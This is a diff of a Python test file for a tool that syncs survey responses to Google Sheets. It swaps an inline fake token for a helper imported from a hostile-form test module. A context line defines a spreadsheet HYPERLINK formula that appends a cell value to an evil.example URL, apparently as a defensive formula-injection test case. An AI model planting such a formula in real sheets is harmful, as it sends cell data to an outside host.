@@ -20,6 +20,7 @@ from csat_hook.sync.outputs.sheets_format import object_id
 from tests.sync.conftest import EN_HEADER
 from tests.sync.conftest import SHEET_ID
 from tests.sync.conftest import leaderboard
+from tests.sync.test_hostile_form import made_up
 
 T0 = datetime(2026, 11, 18, 9, 0, tzinfo=UTC)
 FORMULA_COMMENT = '=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -538,8 +539,7 @@ def test_a_tab_other_than_agents_or_responses_too_large_says_to_raise_the_budget
     token = kit.survey("T-1", "7", "Anna Petrova")
     rows = [[T0, 5, "ok", "", "", token]]
     for i in range(1_000):
-        made_up = f"MXxkZXNrfEQtMXw3fHRuc3FvMHxsODd{i:04d}.Z-3ZU30Al8CkT0iS"
-        rows.append([T0, 1, "x" * 150, "Anna", "T-1", made_up])
+        rows.append([T0, 1, "x" * 150, "Anna", "T-1", made_up(i)])
     kit.responses([EN_HEADER, *rows])
     summary = kit.run(kit.config(output={"gsheets": {"max_request_bytes": 100_000}}))
     assert summary.status == "failed"
